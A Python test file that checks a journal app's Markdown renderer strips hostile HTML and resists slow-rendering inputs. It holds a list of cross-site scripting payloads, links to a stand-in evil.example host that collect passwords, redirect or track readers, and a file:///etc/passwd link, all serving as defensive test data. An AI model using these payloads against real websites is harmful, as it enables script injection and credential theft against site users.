"""Hostile Markdown in, harmless HTML out; and what people mean by Markdown still works."""

import re
import sys
from collections.abc import Callable
from contextlib import suppress
from functools import partial
from html.parser import HTMLParser
from types import FrameType

import pytest
from markdown_it import MarkdownIt

from app.journal.comments import COMMENT_MAX
from app.journal.comments import PAGE_SIZE as COMMENTS_OF_PAGE
from app.journal.markdown import (
    LONGEST,
    MOST_SIGNS,
    MOST_SIGNS_OF_COMMENT,
    is_costly,
    plain_text,
    render_markdown,
    sanitize,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<details open ontoggle=alert(1)>",
    "<form action='https://evil.example'><input name=password></form>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<object data='javascript:alert(1)'></object>",
    "<div><b onclick=alert(1)>x</b></div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<https://evil.example/?'onmouseover='alert(1)>",
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
]


class Watcher(HTMLParser):
    """Notes what a browser would act upon."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "svg",
            "math",
            "img",
            "form",
            "input",
            "base",
            "meta",
            "body",
        }:
            self.dangers.append(tag)
        for name, value in attrs:
            address = re.sub(r"[\s\x00]", "", value or "").lower()
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.dangers.append(name)
            if name in {"href", "src", "data", "action"} and not address.startswith(
                ("http:", "https:", "mailto:", "#")
            ):
                self.dangers.append(f"{name}={address}")


def dangers(markup: str) -> list[str]:
    watcher = Watcher()
    watcher.feed(markup)
    watcher.close()
    return watcher.dangers


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_out(text: str) -> None:
    for shape in (text, f"> {text}", f"- {text}", f"**{text}**", f"# {text}", f"a {text} b"):
        assert dangers(render_markdown(shape)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sanitiser_alone_holds(text: str) -> None:
    """The second wall, without the first: as if the parser let everything through."""
    loose = MarkdownIt("commonmark", {"html": True})
    setattr(loose, "validateLink", lambda _: True)  # noqa: B010  # a method by its type
    assert dangers(sanitize(loose.render(text))) == []


def test_without_walls_they_would_fire() -> None:
    """The control: the same texts, rendered with HTML and unchecked links."""
    loose = MarkdownIt("commonmark", {"html": True})
    setattr(loose, "validateLink", lambda _: True)  # noqa: B010  # a method by its type
    assert [text for text in HOSTILE if not dangers(loose.render(text))] == [
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",  # fires where scripts are off
        "<https://evil.example/?'onmouseover='alert(1)>",
        "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    ]


def test_markdown_works() -> None:
    text = (
        "# Title\n\nA *b* **c** `d`\n\n- one\n- two\n\n> said\n\n3. three\n\n[link](https://example.org)\n\n    code"
    )
    markup = render_markdown(text)
    for part in (
        "<h2>Title</h2>",
        "<em>b</em> <strong>c</strong> <code>d</code>",
        "<li>one</li>",
        "<blockquote>",
        '<ol start="3">',
        '<a href="https://example.org" rel="noopener noreferrer nofollow">link</a>',
        "<pre><code>code",
    ):
        assert part in markup


def test_the_page_keeps_its_only_first_heading() -> None:
    assert render_markdown("# a\n\n###### b") == "<h2>a</h2>\n<h6>b</h6>\n"


def test_plain_text() -> None:
    assert plain_text("# Tea & *milk*\n\n<b>x</b> [y](https://z.example)\n\n> 1 < 2") == "Tea & milk <b>x</b> y 1 < 2"


HEAVY = {
    "open brackets": "[a\n",
    "open pictures": "![",
    "emphasis": "a*b_",
    "strong emphasis": "**a_ ",
    "links": "[a](b) ",
    "lists": "- a\n",
    "headings": "# a\n",
    "line ends": "a\n",
    "quotations": ">" * 30 + "a\n",
    "definitions": "[a]: b\n",
}
MOST_WORK = 1_500_000
"""Calls of functions, which are the same everywhere; a million takes about a third of a second."""


class TooMuchWorkError(Exception):
    pass


def work(render: Callable[[str], str], text: str, most: int = MOST_WORK) -> int:
    """How many functions it calls; it is stopped after one more than `most`."""
    calls = 0

    def count(_frame: FrameType, event: str, _argument: object) -> None:
        nonlocal calls
        calls += event == "call"
        if calls > most:
            raise TooMuchWorkError

    sys.setprofile(count)
    with suppress(TooMuchWorkError):
        try:
            render(text)
        finally:
            sys.setprofile(None)
    return calls


def largest(unit: str, most_signs: int = MOST_SIGNS) -> str:
    """As many of them as are still rendered."""
    count = min(LONGEST // len(unit), most_signs // max(1, len(re.findall(r"[\[\]!*_`<&\\\n]", unit))))
    text = unit * count
    assert not is_costly(text, most_signs)
    return text


@pytest.mark.parametrize("kind", HEAVY)
def test_no_text_takes_long(kind: str) -> None:
    assert work(render_markdown, largest(HEAVY[kind])) < MOST_WORK
    huge = HEAVY[kind] * (2 * 1024**2 // len(HEAVY[kind]))
    for render in (render_markdown, plain_text):
        assert work(render, huge) < 1000
    remark = largest(HEAVY[kind], MOST_SIGNS_OF_COMMENT)[:COMMENT_MAX]
    assert COMMENTS_OF_PAGE * work(partial(render_markdown, most_signs=MOST_SIGNS_OF_COMMENT), remark) < 2 * MOST_WORK


@pytest.mark.parametrize("sign", list("$%+:=@^{}~#>-"))
def test_signs_that_are_not_counted_cost_nothing(sign: str) -> None:
    """Twenty open brackets multiply what each costs. The control is the parser as it comes."""
    text = "[" * 20 + f"a{sign}" * 4_980
    ours = work(partial(render_markdown, most_signs=MOST_SIGNS_OF_COMMENT), text)
    assert ours < 5_000
    assert work(MarkdownIt("commonmark").render, text, most=20 * ours) > 20 * ours


def test_without_limits_one_would() -> None:
    """The control: a hundredth of the text that a form may send."""
    assert work(MarkdownIt("commonmark").render, "[a\n" * 15_000) > MOST_WORK


def test_what_is_too_much_is_shown_as_written() -> None:
    text = "# No *heading*\nand <b>no</b> end\n\n" + "*a*" * MOST_SIGNS
    markup = render_markdown(text)
    assert markup.startswith("<p># No *heading*<br>and &lt;b&gt;no&lt;/b&gt; end</p>\n<p>*a**a*")
    assert dangers(markup) == []
    assert plain_text(text).startswith("# No *heading* and <b>no</b> end *a*")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_out_as_written(text: str) -> None:
    assert dangers(render_markdown(text, most_signs=-1)) == []
